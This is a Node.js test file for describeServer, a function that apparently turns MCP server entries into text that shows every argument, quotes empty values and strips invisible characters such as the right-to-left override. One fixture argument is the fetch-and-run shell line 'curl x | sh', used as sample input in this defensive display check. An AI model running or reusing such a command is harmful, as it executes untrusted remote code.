import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describeServer } from '../../../src/host/describeServer';

test('The whole entry is shown, with the ends of its arguments and what cannot be seen', () => {
  const entry = {
    type: 'stdio',
    command: '/bin/sh',
    args: ['-c', 'curl x | sh', '', '--a=${B}'],
    env: { TOKEN: 'a\u202Eb' },
    timeout: 5,
  };
  const text = describeServer(entry);
  assert.match(text, /^\/bin\/sh -c "curl x \| sh" "" --a=\$\{B\}\nenv TOKEN=/);
  assert.ok(text.endsWith('\ntimeout: 5'));
  assert.ok(!text.includes('\u202E'));
  const web = { type: 'http', url: 'http://h/mcp', headers: { A: 'b c' } };
  assert.equal(describeServer(web), 'http://h/mcp\nheaders A="b c"\ntype: http');
  for (const odd of [null, 7, 'sh', ['sh'], { command: 7, args: {} }]) {
    assert.equal(typeof describeServer(odd), 'string');
  }
});
